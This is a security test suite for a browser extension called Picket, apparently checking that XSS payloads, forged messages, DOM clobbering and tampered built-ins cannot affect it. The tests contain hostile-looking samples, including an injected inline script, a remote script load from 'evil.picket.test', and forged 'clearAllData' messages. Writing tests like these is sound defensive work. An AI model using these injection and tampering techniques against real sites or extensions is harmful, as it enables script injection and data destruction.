// The security checklist (A1, A5, B1, B2, B5, B6, C2, C3, C4) against the real extension in
// Chromium: an XSS corpus through every surface, what a page can and cannot see or do, and the
// one request Picket is allowed to make. The build bundles tests/data/security/xss.ts (boycott
// day = today) so the in-page notice and the reminder notification carry the corpus too.
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import { createHash } from 'node:crypto';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generatePublisherKeys, signPackBytes } from '../../core/pack/signature';
import { buildWithPack } from '../data/security/build';
import { DEMO_ACCOUNTS, XSS_PAYLOADS, xssPack, xssTexts } from '../data/security/xss';
import {
  demoDir,
  demoRoutes,
  fixturesDir,
  launchWithExtension,
  startSiteServer,
  type ExtensionBrowser,
  type SiteServer,
} from './harness';
import { handlesViaDom, shadowOf } from '../data/security/cdp';

const PUBLISHER = 'packs.picket.test';
const PACK_URL = `https://${PUBLISHER}/pack.json`;
const texts = xssTexts();

let server: SiteServer;
let browser: ExtensionBrowser;
let extensionDir: string;
let keys: Awaited<ReturnType<typeof generatePublisherKeys>>;
let publisherPack = { version: 1, body: Buffer.alloc(0), signature: '' };

interface WorkerChrome {
  chrome: {
    storage: {
      local: {
        get(k: string | null): Promise<Record<string, unknown>>;
        set(v: object): Promise<void>;
      };
    };
    notifications: {
      create: (...args: unknown[]) => unknown;
      getAll(): Promise<Record<string, boolean>>;
    };
    alarms: {
      getAll(): Promise<{ name: string; periodInMinutes?: number; scheduledTime: number }[]>;
      create(name: string, info: object): Promise<void>;
    };
    runtime: { sendMessage(...args: unknown[]): Promise<unknown> };
  };
  __picketCreated?: unknown[][];
}

async function subscriberPack(version: number): Promise<void> {
  const pack = {
    format: 'picket-pack/1',
    id: 'publisher-pack',
    version,
    updatedAt: '2026-11-30T00:00:00Z',
    publisher: { name: 'Test publisher' },
    campaigns: [{ id: 'c1', name: `Published v${version}`, participants: [], sources: [] }],
  };
  const body = Buffer.from(JSON.stringify(pack));
  publisherPack = { version, body, signature: await signPackBytes(body, keys.privateJwk) };
}

/** Every file of the build, relative to its root (for C4). */
function builtFiles(dir: string, root = dir): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? builtFiles(path, root) : [relative(root, path)];
  });
}

/** Our demo feed with clobbering markup right after <body> (B6). */
function clobberedFeed(): string {
  return readFileSync(join(demoDir, 'instagram/feed.html'), 'utf8').replace(
    /<body([^>]*)>/i,
    '<body$1><form id="browser"></form><img name="chrome" alt=""><form id="picket"></form>' +
      '<form name="browser"><input name="runtime"></form>',
  );
}

/** Sends a message to the background as the given extension page does. */
function sendFrom(
  page: Page,
  message: unknown,
): Promise<{ ok: boolean } & Record<string, unknown>> {
  return page.evaluate(
    (m) =>
      (globalThis as unknown as WorkerChrome).chrome.runtime.sendMessage(m) as Promise<
        { ok: boolean } & Record<string, unknown>
      >,
    message,
  );
}

async function badgeHandles(page: Page): Promise<string[]> {
  return page.$$eval('picket-badge', (all) => all.map((b) => b.getAttribute('data-handle') ?? ''));
}

/** Polls without expect.poll, so it also works in beforeAll. */
async function waitForBadges(page: Page, handle = 'kimkardashian'): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (!(await badgeHandles(page)).includes(handle)) {
    if (Date.now() > deadline) throw new Error(`No badge for ${handle} on ${page.url()}`);
    await new Promise((done) => setTimeout(done, 100));
  }
}

const canary = (page: Page) =>
  page.evaluate(() => (window as unknown as { __pwn?: unknown }).__pwn ?? null);

/** Elements or attributes that could only come from data parsed as markup. */
const markupFromData = (page: Page) =>
  page.evaluate(() => ({
    images: document.querySelectorAll('img[src="x"], iframe, object, embed').length,
    inlineScripts: document.querySelectorAll('script:not([src])').length,
    handlers: [...document.querySelectorAll('*')].filter((e) =>
      e.getAttributeNames().some((n) => n.startsWith('on')),
    ).length,
    scriptLinks: [...document.querySelectorAll('a[href]')].filter(
      (a) => !/^(https:|#|\?|chrome-extension:|\/|[a-z]+\.html)/.test(a.getAttribute('href')!),
    ).length,
  }));

beforeAll(async () => {
  keys = await generatePublisherKeys();
  await subscriberPack(1);
  extensionDir = buildWithPack('security', xssPack());
  // Test-only grant: the publisher's host, as if the user had accepted the options page's
  // permission prompt (a headless browser has no one to click it).
  const manifestFile = join(extensionDir, 'manifest.json');
  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8')) as Record<string, unknown>;
  manifest.host_permissions = [`https://${PUBLISHER}/*`];
  writeFileSync(manifestFile, JSON.stringify(manifest));

  server = await startSiteServer({
    routes: [
      ...demoRoutes(),
      {
        host: 'www.instagram.com',
        path: '/strict-csp/',
        file: 'instagram/feed.html',
        headers: { 'content-security-policy': "default-src 'none'; img-src 'self'" },
      },
      {
        host: 'www.instagram.com',
        path: '/clobbered/',
        handler: () => ({
          headers: { 'content-type': 'text/html; charset=utf-8' },
          body: clobberedFeed(),
        }),
      },
      {
        host: PUBLISHER,
        path: '/set-cookie',
        handler: () => ({
          headers: {
            'content-type': 'text/plain',
            'set-cookie': 'picket_tracker=secret-session; Secure; SameSite=None; Path=/',
          },
          body: 'cookie set',
        }),
      },
      {
        host: PUBLISHER,
        path: '/pack.json',
        handler: () => ({
          headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
          body: publisherPack.body,
        }),
      },
      {
        host: PUBLISHER,
        path: '/pack.json.sig',
        handler: () => ({
          headers: { 'content-type': 'text/plain', 'access-control-allow-origin': '*' },
          body: publisherPack.signature,
        }),
      },
      { host: '*.picket.test', path: '/*', handler: () => ({ status: 404, body: 'nothing' }) },
    ],
  });
  browser = await launchWithExtension({ port: server.port, extensionDir });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe('A1: the XSS corpus stays text on every surface', () => {
  let feed: Page;
  const created: unknown[][] = [];

  it('notification: the reminder carries campaign name and event title exactly', async () => {
    const worker = await browser.getServiceWorker();
    // Intercept notifications.create in the worker (the polyfill looks the function up per call).
    await worker.evaluate(() => {
      const g = globalThis as unknown as WorkerChrome;
      const original = g.chrome.notifications.create.bind(g.chrome.notifications);
      g.__picketCreated = [];
      g.chrome.notifications.create = (...args: unknown[]) => {
        g.__picketCreated!.push(args.filter((a) => typeof a !== 'function'));
        return original(...args);
      };
    });
    // Reminders on, at midnight: today's boycott reminder is due at once.
    await worker.evaluate(() =>
      (globalThis as unknown as WorkerChrome).chrome.storage.local.set({
        settings: {
          sites: { instagram: true, facebook: true },
          surfaces: {},
          campaigns: {},
          allowlist: [],
          badgeStyle: 'label',
          reminders: { enabled: true, time: '00:00', dayBefore: false },
        },
      }),
    );
    await expect
      .poll(
        () =>
          worker.evaluate(() => (globalThis as unknown as WorkerChrome).__picketCreated!.length),
        {
          timeout: 10_000,
        },
      )
      .toBe(1);
    created.push(
      ...(await worker.evaluate(() => (globalThis as unknown as WorkerChrome).__picketCreated!)),
    );
    const [, options] = created[0] as [string, { title: string; message: string; type: string }];
    expect(options.type).toBe('basic');
    expect(options.title).toBe(texts.campaignName);
    expect(options.message).toContain(texts.eventTitle);
    expect(
      await worker.evaluate(() => (globalThis as { __pwn?: unknown }).__pwn ?? null),
    ).toBeNull();
  });

  it('in-page notice: title and message are the exact text, in a closed root', async () => {
    feed = await browser.context.newPage();
    await feed.goto('https://www.instagram.com/');
    await expect.poll(() => feed.locator('picket-notice').count(), { timeout: 15_000 }).toBe(1);
    const notice = await shadowOf(feed, 'picket-notice');
    expect(notice.mode).toBe('closed');
    expect(notice.texts).toContain(texts.campaignName);
    expect(notice.texts.some((t) => t.includes(texts.eventTitle))).toBe(true);
    expect(notice.elements.filter((e) => /^(img|iframe|script|object|embed)$/.test(e.tag))).toEqual(
      [],
    );
    expect(notice.elements.flatMap((e) => e.attributes).filter((a) => a.startsWith('on'))).toEqual(
      [],
    );
  });

  it('badge popover: names, summaries, source titles and links exactly as in the pack', async () => {
    await waitForBadges(feed);
    const handle = 'kimkardashian';
    const index = DEMO_ACCOUNTS.indexOf(handle);
    const closed = await shadowOf(feed, `picket-badge[data-handle="${handle}"]`);
    expect(closed.popoverOpen).toBe(false);
    // A real (trusted) click, as a user would make.
    await feed.locator(`picket-badge[data-handle="${handle}"]`).first().click();
    const open = await shadowOf(feed, `picket-badge[data-handle="${handle}"]`);
    expect(open.mode).toBe('closed');
    expect(open.popoverOpen).toBe(true);
    expect(open.texts).toContain(texts.campaignName);
    expect(open.fullText).toContain(texts.participantNames[index]);
    expect(open.fullText).toContain(texts.actionSummaries[index]);
    const sourceText = texts.sourceTitles[index]!;
    expect(
      open.texts.some((t) => t.includes(sourceText) || t === texts.sourcePublishers[index]),
    ).toBe(true);
    // Markup parsing would have split these across elements: each is whole in one text node.
    for (const text of [texts.participantNames[index]!, texts.actionSummaries[index]!]) {
      expect(
        open.texts.some((t) => t.includes(text)),
        text,
      ).toBe(true);
    }
    const payloadsSeen = XSS_PAYLOADS.filter((p) => open.texts.some((t) => t.includes(p)));
    expect(payloadsSeen.length).toBeGreaterThanOrEqual(3);
    const tags = new Set(open.elements.map((e) => e.tag));
    for (const forbidden of ['img', 'iframe', 'script', 'object', 'embed', 'b', 'i']) {
      expect(tags.has(forbidden), forbidden).toBe(false);
    }
    expect(open.elements.flatMap((e) => e.attributes).filter((a) => a.startsWith('on'))).toEqual(
      [],
    );
    const source = open.links.find((l) => l.href === texts.sourceUrls[index]);
    expect(source, JSON.stringify(open.links)).toBeDefined();
    for (const link of open.links) {
      expect(link.href).toMatch(/^https:\/\//);
      expect(link.rel).toContain('noopener');
      expect(link.rel).toContain('noreferrer');
      expect(link.target).toBe('_blank');
    }
    await feed.keyboard.press('Escape');
    expect(await canary(feed)).toBeNull();
  });

  it('popup: campaign, demands, schedule and participants render the corpus as text', async () => {
    const tabId = await browser.tabIdOf(feed);
    const popup = await browser.openExtensionPage(`popup.html?tab=${tabId}`);
    const bodyText = () => popup.evaluate(() => document.body.textContent ?? '');
    await expect.poll(bodyText, { timeout: 15_000 }).toContain(texts.campaignSummary);
    // Open every disclosure so folded text is laid out too.
    await popup.evaluate(() =>
      document.querySelectorAll('details').forEach((d) => (d.open = true)),
    );
    const expected = [
      texts.campaignName,
      texts.campaignSummary,
      texts.demandTitle,
      texts.demandDetail,
      texts.eventTitle,
      ...texts.participantNames,
    ];
    await expect.poll(bodyText, { timeout: 10_000 }).toContain(texts.participantNames[0]);
    const elementTexts = await popup.evaluate(() =>
      [...document.querySelectorAll('body *')].map((e) => e.textContent ?? ''),
    );
    for (const text of expected) {
      expect(elementTexts, text).toContain(text);
    }
    expect(await bodyText()).toContain(texts.actionSummaries[0]);
    expect(await markupFromData(popup)).toEqual({
      images: 0,
      inlineScripts: 0,
      handlers: 0,
      scriptLinks: 0,
    });
    expect(await canary(popup)).toBeNull();
    await popup.close();
  });

  it('options: publisher and campaign names render as text', async () => {
    const options = await browser.openExtensionPage('options.html');
    const bodyText = () => options.evaluate(() => document.body.textContent ?? '');
    await expect.poll(bodyText, { timeout: 15_000 }).toContain(texts.publisherName);
    expect(await bodyText()).toContain(texts.campaignName);
    expect(await markupFromData(options)).toEqual({
      images: 0,
      inlineScripts: 0,
      handlers: 0,
      scriptLinks: 0,
    });
    expect(await canary(options)).toBeNull();
    await options.close();
  });

  it('the canary never fired in the page, and no script error was logged', async () => {
    expect(await canary(feed)).toBeNull();
    expect(browser.scriptErrors()).toEqual([]);
  });
});

describe('B1/B2/B5/C4: what a page can see and do', () => {
  let feed: Page;
  beforeAll(async () => {
    feed = await browser.context.newPage();
    await feed.goto('https://www.instagram.com/');
    await waitForBadges(feed);
  });

  it('B1: closed shadow roots, no readable text, only the two data attributes, no globals', async () => {
    const seen = await feed.evaluate(() => {
      const badges = [...document.querySelectorAll('picket-badge')] as HTMLElement[];
      const notice = document.querySelector('picket-notice') as HTMLElement | null;
      return {
        count: badges.length,
        shadowRoots: badges.map((b) => b.shadowRoot).filter((r) => r !== null).length,
        innerText: badges.map((b) => b.innerText + b.textContent).join(''),
        attributes: [...new Set(badges.map((b) => b.getAttributeNames().sort().join(',')))],
        children: badges.reduce((n, b) => n + b.childNodes.length, 0),
        notice: notice && {
          shadowRoot: notice.shadowRoot,
          text: notice.innerText + notice.textContent,
          attributes: notice.getAttributeNames(),
        },
        globals: Object.getOwnPropertyNames(window).filter((n) => /picket|__pwn/i.test(n)),
        customElement: customElements.get('picket-badge') ?? null,
      };
    });
    expect(seen.count).toBeGreaterThan(0);
    expect(seen.shadowRoots).toBe(0);
    expect(seen.innerText).toBe('');
    expect(seen.children).toBe(0);
    expect(seen.attributes).toEqual(['data-handle,data-platform']);
    expect(seen.notice).toEqual({ shadowRoot: null, text: '', attributes: [] });
    expect(seen.globals).toEqual([]);
    expect(seen.customElement).toBeNull();
    // The campaign text is nowhere in the page's own DOM.
    const pageText = await feed.content();
    expect(pageText).not.toContain('CNAME');
    expect(pageText).not.toContain('PNAME');
  });

  it('B2: synthetic clicks, keys, focus and hover from the page open nothing', async () => {
    const handle = 'katyperry';
    await feed.evaluate((h) => {
      const badge = document.querySelector(`picket-badge[data-handle="${h}"]`) as HTMLElement;
      const init = { bubbles: true, composed: true, cancelable: true };
      for (const type of [
        'pointerdown',
        'mousedown',
        'mouseup',
        'click',
        'mouseenter',
        'mouseover',
      ]) {
        badge.dispatchEvent(new MouseEvent(type, init));
      }
      for (const key of ['Enter', ' ', 'ArrowDown']) {
        badge.dispatchEvent(new KeyboardEvent('keydown', { ...init, key }));
      }
      badge.dispatchEvent(new FocusEvent('focus', init));
      badge.dispatchEvent(new FocusEvent('focusin', init));
      badge.click();
      badge.focus();
    }, handle);
    await feed.waitForTimeout(300);
    const badge = await shadowOf(feed, `picket-badge[data-handle="${handle}"]`);
    expect(badge.popoverOpen).toBe(false);
  });

  it('B2: postMessage and CustomEvent in our message shapes change nothing', async () => {
    const worker = await browser.getServiceWorker();
    const readState = () =>
      worker.evaluate(async () => {
        const all = await (globalThis as unknown as WorkerChrome).chrome.storage.local.get(null);
        return JSON.stringify({
          registry: all.packRegistry ?? null,
          revision: all.packsRevision ?? null,
          settings: all.settings ?? null,
          dismissed: all.noticeDismissed ?? null,
        });
      });
    const before = await readState();
    await feed.evaluate(
      (pack) => {
        const forged = [
          { type: 'dismissNotice', noticeId: 'xss-corpus/xss-campaign/boycott-today' },
          { type: 'importPack', text: pack },
          { type: 'clearAllData' },
          { type: 'setPackEnabled', packId: 'xss-corpus', enabled: false },
          { type: 'lookup', platform: 'instagram', keys: ['kimkardashian'] },
        ];
        for (const message of forged) {
          window.postMessage(message, '*');
          window.postMessage(JSON.stringify(message), '*');
          for (const name of ['picket', 'picket:message', 'message']) {
            document.dispatchEvent(new CustomEvent(name, { detail: message }));
            window.dispatchEvent(new CustomEvent(name, { detail: message }));
          }
        }
      },
      JSON.stringify({ format: 'picket-pack/1' }),
    );
    await feed.waitForTimeout(500);
    expect(await readState()).toBe(before);
    expect(await feed.locator('picket-notice').count()).toBe(1);
    expect(await badgeHandles(feed)).toContain('kimkardashian');
  });

  it('B5: a web page cannot message Picket', async () => {
    const result = await feed.evaluate(async (id) => {
      const chrome = (
        window as unknown as { chrome?: { runtime?: WorkerChrome['chrome']['runtime'] } }
      ).chrome;
      if (!chrome?.runtime?.sendMessage) return 'no runtime.sendMessage in the page';
      try {
        await chrome.runtime.sendMessage(id, { type: 'getStatus' });
        return 'answered';
      } catch (error) {
        return `failed: ${String(error)}`;
      }
    }, browser.extensionId);
    expect(result).not.toBe('answered');
  });

  it('C4: no file of the build can be fetched or loaded from a page', async () => {
    const files = builtFiles(extensionDir);
    expect(files.length).toBeGreaterThan(5);
    const results = await feed.evaluate(
      async ({ id, paths }) => {
        const reachable: string[] = [];
        for (const path of paths) {
          const url = `chrome-extension://${id}/${path}`;
          const fetched = await fetch(url).then(
            () => true,
            () => false,
          );
          const loaded = await new Promise<boolean>((done) => {
            const img = document.createElement('img');
            img.onload = () => done(true);
            img.onerror = () => done(false);
            img.src = url;
          });
          if (fetched || loaded) reachable.push(path);
        }
        return reachable;
      },
      { id: browser.extensionId, paths: files },
    );
    expect(results).toEqual([]);
  });
});

describe('A5/B6: hostile pages', () => {
  it("A5: under `default-src 'none'` badges are styled and the extension causes no CSP violation", async () => {
    const page = await browser.context.newPage();
    await page.addInitScript(() => {
      const seen: { directive: string; blocked: string; source: string }[] = [];
      (window as unknown as { __violations: typeof seen }).__violations = seen;
      document.addEventListener('securitypolicyviolation', (e) =>
        seen.push({ directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile }),
      );
    });
    const response = await page.goto('https://www.instagram.com/strict-csp/');
    expect(response?.headers()['content-security-policy']).toBe(
      "default-src 'none'; img-src 'self'",
    );
    await waitForBadges(page);
    const box = await page
      .locator('picket-badge[data-handle="kimkardashian"]')
      .first()
      .boundingBox();
    expect(box!.width).toBeGreaterThan(8);
    expect(box!.height).toBeGreaterThan(8);
    // The :host rules applied: an unstyled host would be display:inline.
    const hostDisplay = await page.$eval(
      'picket-badge[data-handle="kimkardashian"]',
      (b) => getComputedStyle(b).display,
    );
    expect(hostDisplay).toBe('inline-flex');
    const styled = await shadowOf(page, 'picket-badge[data-handle="kimkardashian"]');
    expect(styled.iconSize.width).toBeGreaterThan(4);
    expect(styled.buttonBackground).not.toBe('rgba(0, 0, 0, 0)');
    const violations = await page.evaluate(
      () =>
        (
          window as unknown as {
            __violations: { directive: string; blocked: string; source: string }[];
          }
        ).__violations,
    );
    // The page's own stylesheet and script are blocked (that is the policy); nothing else may be.
    const ours = violations.filter(
      (v) =>
        !v.blocked.startsWith('https://www.instagram.com/_demo/') ||
        v.source.startsWith('chrome-extension:'),
    );
    expect(ours).toEqual([]);
    await page.close();
  });

  it('B6: tampered built-ins and clobbered globals in the page do not change the badges', async () => {
    const reference = await browser.context.newPage();
    await reference.goto('https://www.instagram.com/');
    await waitForBadges(reference);
    const expected = (await badgeHandles(reference)).sort();
    await reference.close();

    const page = await browser.context.newPage();
    await page.addInitScript(() => {
      const w = window as unknown as Record<string, unknown>;
      JSON.parse = () => ({ type: 'lookup', matches: { nasa: {} } });
      JSON.stringify = () => '{"type":"clearAllData"}';
      w.fetch = () => Promise.reject(new Error('page fetch is broken'));
      Array.prototype.map = function () {
        return [];
      };
      Array.prototype.includes = () => true;
      Object.defineProperty(Object.prototype, 'ok', { get: () => true, configurable: true });
      Promise.prototype.then = function (this: Promise<unknown>) {
        return this;
      } as typeof Promise.prototype.then;
      w.MutationObserver = function () {
        return { observe() {}, disconnect() {}, takeRecords: () => [] };
      };
      w.requestAnimationFrame = () => 0;
    });
    await page.goto('https://www.instagram.com/clobbered/');
    const clobbered = await page.evaluate(() => [
      String((window as unknown as { browser: unknown }).browser),
      String((window as unknown as { picket: unknown }).picket),
    ]);
    expect(clobbered[0]).toMatch(/HTMLCollection|HTMLFormElement/);
    // Read through the DevTools DOM domain: the page's broken built-ins would break page scripts.
    await expect
      .poll(async () => (await handlesViaDom(page)).sort(), { timeout: 15_000 })
      .toEqual(expected);
    expect(expected).toContain('kimkardashian');
    expect(expected).not.toContain('nasa');
    await page.close();
  });
});

describe('C2/C3: the only request Picket makes, and the extension pages CSP', () => {
  it('C2: a subscription download carries no cookie, query, referrer or browsing data', async () => {
    const cookiePage = await browser.context.newPage();
    await cookiePage.goto(`https://${PUBLISHER}/set-cookie`);
    const cookies = await browser.context.cookies(`https://${PUBLISHER}/`);
    expect(cookies.map((c) => c.name)).toContain('picket_tracker');
    await cookiePage.close();

    const options = await browser.openExtensionPage('options.html');
    server.clearRequests();
    const subscribed = await sendFrom(options, {
      type: 'subscribe',
      url: PACK_URL,
      publicKey: keys.publicKeyBase64,
    });
    expect(subscribed).toEqual({ ok: true, packId: 'publisher-pack' });

    // Browsing does not trigger a refresh.
    const feed = await browser.context.newPage();
    await feed.goto('https://www.instagram.com/');
    await waitForBadges(feed);
    await feed.goto('https://www.instagram.com/leonardodicaprio/');
    await waitForBadges(feed, 'leonardodicaprio');
    await feed.close();

    await subscriberPack(2);
    const refreshed = await sendFrom(options, {
      type: 'refreshSubscription',
      packId: 'publisher-pack',
    });
    expect(refreshed).toEqual({ ok: true, updated: true, version: 2 });

    const requests = server.requestsTo(PUBLISHER);
    // subscribe: pack + signature; refresh (user): pack + signature. Nothing else, ever.
    expect(requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'GET /pack.json',
      'GET /pack.json.sig',
      'GET /pack.json',
      'GET /pack.json.sig',
    ]);
    for (const request of requests) {
      expect(request.headers.cookie).toBeUndefined();
      expect(request.headers.referer).toBeUndefined();
      // No Origin either: it would carry the extension id.
      expect(request.headers.origin).toBeUndefined();
      const everything = JSON.stringify(request.headers) + request.path;
      for (const handle of DEMO_ACCOUNTS) expect(everything).not.toContain(handle);
      expect(everything).not.toContain('instagram');
      expect(everything).not.toContain('facebook');
    }

    // The daily alarm is the only other trigger; firing it early makes the same clean request.
    const worker = await browser.getServiceWorker();
    const alarms = await worker.evaluate(() =>
      (globalThis as unknown as WorkerChrome).chrome.alarms.getAll(),
    );
    expect(alarms.find((a) => a.name === 'picket:refresh')?.periodInMinutes).toBe(24 * 60);
    server.clearRequests();
    await worker.evaluate(() =>
      (globalThis as unknown as WorkerChrome).chrome.alarms.create('picket:refresh', {
        when: Date.now() + 200,
      }),
    );
    await expect
      .poll(() => server.requestsTo(PUBLISHER).map((r) => r.path), { timeout: 10_000 })
      .toEqual(['/pack.json', '/pack.json.sig']);
    for (const request of server.requestsTo(PUBLISHER)) {
      expect(request.headers.cookie).toBeUndefined();
    }
    await options.close();
  });

  it('C3: extension pages run no inline or remote script', async () => {
    const popup = await browser.openExtensionPage('popup.html');
    const outcome = await popup.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(`${e.violatedDirective} ${e.blockedURI}`),
      );
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwn = "inline"';
      document.head.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.picket.test/x.js';
      const remoteDone = new Promise((done) => {
        remote.onload = () => done('loaded');
        remote.onerror = () => done('blocked');
      });
      document.head.append(remote);
      const remoteResult = await remoteDone;
      let evalResult = 'ran';
      try {
        // eslint-disable-next-line no-new-func -- the CSP must refuse exactly this
        new Function('window.__pwn = "eval"')();
      } catch {
        evalResult = 'blocked';
      }
      await new Promise((done) => setTimeout(done, 100));
      return {
        pwn: (window as unknown as { __pwn?: unknown }).__pwn ?? null,
        remoteResult,
        evalResult,
        violations,
      };
    });
    expect(outcome.pwn).toBeNull();
    expect(outcome.remoteResult).toBe('blocked');
    expect(outcome.evalResult).toBe('blocked');
    expect(outcome.violations.length).toBeGreaterThanOrEqual(2);
    expect(server.requestsTo('evil.picket.test')).toEqual([]);
    await popup.close();
  });
});

/** Saved pages scrolled in C1 (served without scripts), when ../shared/fixtures is there. */
const SAVED_PAGES = [
  { fixture: 'instagram-home_feed-2024-1.html', url: 'https://www.instagram.com/saved-feed/' },
  { fixture: 'instagram-profile-2024-1.html', url: 'https://www.instagram.com/saved-profile/' },
  { fixture: 'facebook-home_feed-2025-1.html', url: 'https://www.facebook.com/saved-feed/' },
];

interface NetLogRequest {
  url: string;
  initiator: string | null;
}

/** URL requests recorded in a Chromium net log (--log-net-log), with who initiated them. */
function readNetLog(file: string): NetLogRequest[] {
  let text = readFileSync(file, 'utf8').trimEnd();
  // A log cut off at shutdown lacks its closing brackets.
  if (!text.endsWith('}')) text = text.replace(/,\s*$/, '') + ']}';
  const log = JSON.parse(text) as {
    constants: { logEventTypes: Record<string, number> };
    events: { type: number; params?: { url?: string; initiator?: string } }[];
  };
  const start = log.constants.logEventTypes.URL_REQUEST_START_JOB;
  return log.events
    .filter((e) => e.type === start && e.params?.url)
    .map((e) => ({ url: e.params!.url!, initiator: e.params!.initiator ?? null }));
}

describe('C1: zero requests while browsing', () => {
  it('scrolling the demo and saved pages, with the worker killed mid-way, Picket requests nothing', async () => {
    const logDir = mkdtempSync(join(tmpdir(), 'picket-netlog-'));
    const netLog = join(logDir, 'net.json');
    const saved = existsSync(fixturesDir)
      ? SAVED_PAGES.filter((p) => existsSync(join(fixturesDir, p.fixture)))
      : [];
    if (saved.length === 0) console.info('[C1] ../shared/fixtures is absent: demo pages only');
    const siteServer = await startSiteServer({
      routes: [
        ...saved.map((p) => ({
          host: new URL(p.url).host,
          path: new URL(p.url).pathname,
          fixture: p.fixture,
        })),
        ...demoRoutes(),
      ],
    });
    const browsing = await launchWithExtension({
      port: siteServer.port,
      extensionDir,
      extraArgs: [`--log-net-log=${netLog}`, '--net-log-capture-mode=Default'],
    });
    try {
      const pages = [
        'https://www.instagram.com/',
        'https://www.instagram.com/leonardodicaprio/',
        ...saved.map((p) => p.url),
        'https://www.facebook.com/',
      ];
      const page = await browsing.context.newPage();
      for (const [index, url] of pages.entries()) {
        await page.goto(url);
        if (url === 'https://www.instagram.com/') await waitForBadges(page);
        for (let step = 0; step < 6; step += 1) {
          await page.mouse.wheel(0, 1200);
          await page.waitForTimeout(120);
        }
        // Mid-way the worker dies, as Chromium does after 30 s idle; lookups must wake it.
        if (index === 1) await browsing.killServiceWorker();
      }
      await page.goto('https://www.instagram.com/');
      await waitForBadges(page);
      // Saved pages log their own dead resources (manifest, CDN images); ours must log nothing.
      expect(
        browsing
          .scriptErrors()
          .filter((e) => e.source !== 'console' || /picket|extension/i.test(e.text)),
      ).toEqual([]);
    } finally {
      await browsing.close();
      await siteServer.close();
    }
    const requests = readNetLog(netLog);
    rmSync(logDir, { recursive: true, force: true });
    expect(requests.length).toBeGreaterThan(5);
    const byExtension = requests.filter(
      (r) => r.initiator?.startsWith('chrome-extension:') || r.url.startsWith('chrome-extension:'),
    );
    expect(byExtension).toEqual([]);
    // Only the sites' own hosts were asked for anything (saved pages name other hosts, which
    // resolve nowhere, but never our publisher's or any Picket host).
    expect(requests.filter((r) => /picket/i.test(new URL(r.url).host))).toEqual([]);
    const serverPaths = siteServer.requests.map((r) => `${r.method} ${r.host}${r.path}`);
    expect(serverPaths.filter((p) => !p.startsWith('GET '))).toEqual([]);
    expect(
      siteServer.requests.filter((r) => !/(^|\.)(instagram|facebook)\.com$/.test(r.host)),
    ).toEqual([]);
    // Content scripts have no network code, and saved pages run no script: nothing in the
    // pages used fetch/XHR (Sec-Fetch-Dest "empty"); images, styles and documents only.
    expect(
      siteServer.requests
        .filter((r) => r.headers['sec-fetch-dest'] === 'empty')
        // A saved page's own <link rel=preload as=fetch> into its "…_files/" folder.
        .filter((r) => !/_files\//.test(decodeURIComponent(r.path)))
        .map((r) => r.path),
    ).toEqual([]);
  });
});

/** The id Chromium gives an unpacked extension: the first 128 bits of SHA-256(path), a–p. */
function unpackedExtensionId(path: string): string {
  return createHash('sha256')
    .update(path)
    .digest('hex')
    .slice(0, 32)
    .replace(/[0-9a-f]/g, (c) => String.fromCharCode(97 + parseInt(c, 16)));
}

describe('B5: another extension', () => {
  it('cannot message or connect to Picket', async () => {
    const probeDir = resolve(import.meta.dirname, '../data/security/probe-extension');
    const probeServer = await startSiteServer({ routes: demoRoutes() });
    const both = `${extensionDir},${probeDir}`;
    const withProbe = await launchWithExtension({
      port: probeServer.port,
      extensionDir,
      // Later switches win over the harness's own: load Picket and the probe.
      extraArgs: [`--disable-extensions-except=${both}`, `--load-extension=${both}`],
    });
    try {
      expect(unpackedExtensionId(extensionDir)).toBe(withProbe.extensionId);
      const options = await withProbe.openExtensionPage('options.html');
      const storage = () =>
        options.evaluate(async () =>
          JSON.stringify(
            await (globalThis as unknown as WorkerChrome).chrome.storage.local.get(null),
          ),
        );
      const before = await storage();
      const probe = await withProbe.context.newPage();
      await probe.goto(
        `chrome-extension://${unpackedExtensionId(probeDir)}/probe.html?target=${withProbe.extensionId}`,
      );
      const result = (await probe.evaluate(
        () => (window as unknown as { probeResult: Promise<unknown> }).probeResult,
      )) as Record<string, { answered: boolean; error?: string }>;
      expect(Object.keys(result).sort()).toEqual([
        'clearAllData',
        'connect',
        'getStatus',
        'lookup',
      ]);
      for (const [channel, outcome] of Object.entries(result)) {
        expect(outcome.answered, `${channel}: ${JSON.stringify(outcome)}`).toBe(false);
      }
      // Our own page still gets answers, and nothing the probe sent changed any data.
      expect((await sendFrom(options, { type: 'getStatus' })).ok).toBe(true);
      expect(await storage()).toBe(before);
    } finally {
      await withProbe.close();
      await probeServer.close();
    }
  });
});
